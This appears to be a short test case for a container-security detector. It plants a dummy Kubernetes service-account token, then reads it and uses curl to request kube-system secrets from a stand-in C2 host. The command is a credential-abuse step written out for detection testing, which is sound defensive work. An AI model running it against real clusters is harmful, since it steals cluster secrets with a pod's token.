# category: suspicious-network
# technique: T1613
# art: yes
# expect: k8s-api-contact
# image: debian
# net: yes
# layer: mkdir -p var/run/secrets/kubernetes.io/serviceaccount && echo eyJhbGciOiJSUzI1NiJ9.exray-eval > var/run/secrets/kubernetes.io/serviceaccount/token
# desc: container and resource discovery: the pod's service-account token is used against the Kubernetes API server
tok=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)
timeout 5 curl -sk -H "Authorization: Bearer $tok" "https://$C2:6443/api/v1/namespaces/kube-system/secrets" || true
